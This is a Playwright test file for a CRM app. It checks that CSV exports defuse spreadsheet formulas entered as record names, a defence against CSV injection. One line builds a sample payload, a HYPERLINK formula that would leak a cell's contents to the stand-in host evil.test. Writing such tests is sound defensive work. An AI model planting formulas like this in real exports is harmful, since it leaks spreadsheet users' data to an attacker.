import fs from "node:fs";
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures/test";
import { uniqueName } from "./helpers";

// The browser's exports are written by the same CSV writer as the API's (resources/kit/csv.ts):
// a name a spreadsheet would run as a formula comes out as text (OWASP "CSV Injection").
test.use({ role: "admin" });

async function exported(page: Page, button: string): Promise<string> {
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: button }).click();
  return fs.readFileSync((await (await download).path())!, "utf8");
}

test("a generic list's export neutralises a formula typed as a name, as the API's export does", async ({
  page,
  apiAs,
}) => {
  const tail = uniqueName("x").replace(/\W/g, "");
  const formula = `=HYPERLINK("http://evil.test/?leak="&A2,"${tail}")`;
  await apiAs("admin").post("lead-statuses", { name: formula, color: "#123456" });

  await page.goto("/crm/lead-status");
  const box = page.getByPlaceholder("Buscar…");
  await box.fill(tail);
  await box.press("Enter");
  await expect(page.locator(".ant-table-tbody tr.ant-table-row")).toHaveCount(1);
  const csv = await exported(page, "Exportar CSV");
  expect(csv.startsWith("\uFEFF")).toBe(true);
  // Quoted, with the apostrophe a spreadsheet shows instead of running the formula.
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A2,""${tail}"")"`);
  expect(csv).not.toMatch(/(^|[;,\n])"?=HYPERLINK/);
});
